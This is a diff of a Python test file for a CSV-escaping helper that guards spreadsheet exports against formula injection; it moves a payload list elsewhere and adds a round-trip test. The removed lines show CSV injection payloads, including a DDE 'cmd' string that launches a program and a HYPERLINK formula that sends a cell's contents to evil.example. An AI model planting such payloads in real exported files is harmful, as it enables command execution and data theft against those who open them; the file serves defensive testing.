@@ -5,17 +5,8 @@ import io
 
 import pytest
 
-from mentorship.lib.csv_safe import safe_cell, to_csv
-
-STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "＝", "＋", "－", "＠")
-BODIES = (
-    "1+1",
-    "cmd|'/C calc'!A0",
-    'HYPERLINK("http://evil.example?x="&A1,"click")',
-    "SUM(1+9)*cmd|' /C calc'!A0",
-)
-LEADS = ("", " ", "\u00a0", "\ufeff")
-PAYLOADS = [f"{lead}{start}{body}" for start in STARTS for body in BODIES for lead in LEADS]
+from mentorship.lib.csv_safe import safe_cell, to_csv, unsafe_cell
+from tests.formulas import PAYLOADS
 
 
 @pytest.mark.parametrize("payload", PAYLOADS)
@@ -32,6 +23,11 @@ def test_there_are_more_than_sixty_payloads():
 @pytest.mark.parametrize("text", ["Ada", "3 = 4", "a-b", "mail@example.org", "O'Neil", "日本", "2026-11-22"])
 def test_plain_text_stays_as_it_is(text):
     assert safe_cell(text) == text
+
+
+@pytest.mark.parametrize("text", [*PAYLOADS, "'=1", "''@x", "'", "'Ada'", "O'Neil", "", " - "])
+def test_a_cell_comes_back_as_it_was(text):
+    assert unsafe_cell(safe_cell(text)) == text
 
 
 def test_none_is_empty_and_numbers_are_text():
